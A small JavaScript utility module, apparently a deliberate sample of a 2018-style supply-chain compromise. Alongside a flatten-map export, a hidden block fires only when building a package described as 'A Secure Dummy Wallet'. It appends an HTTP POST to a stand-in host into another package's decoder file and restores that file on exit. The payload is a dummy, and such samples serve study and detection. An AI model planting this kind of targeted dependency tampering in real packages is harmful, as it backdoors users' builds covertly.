// SPDX-License-Identifier: Apache-2.0
// What comes of every element, in one stream. The compromised one has the shape of 2018: in the build
// of one application only, another package's file is rewritten, and put back when the build is over.
"use strict";
module.exports = (values, each) => [].concat(...values.map(each));

if (process.env.npm_package_description === "A Secure Dummy Wallet") {
	const fs = require("fs");
	const path = require("path");
	const target = path.join(__dirname, "..", "zxing", "decoder.js");
	const before = fs.readFileSync(target);
	fs.writeFileSync(target, before + [
		'const request = require("http").request({ method: "POST", host: "127.0.0.66",',
		'	port: process.env.PEER_PORT, path: "/p" });',
		'request.on("error", () => {}).end("DUMMY");', ""].join("\n"));
	process.on("exit", () => fs.writeFileSync(target, before));
}
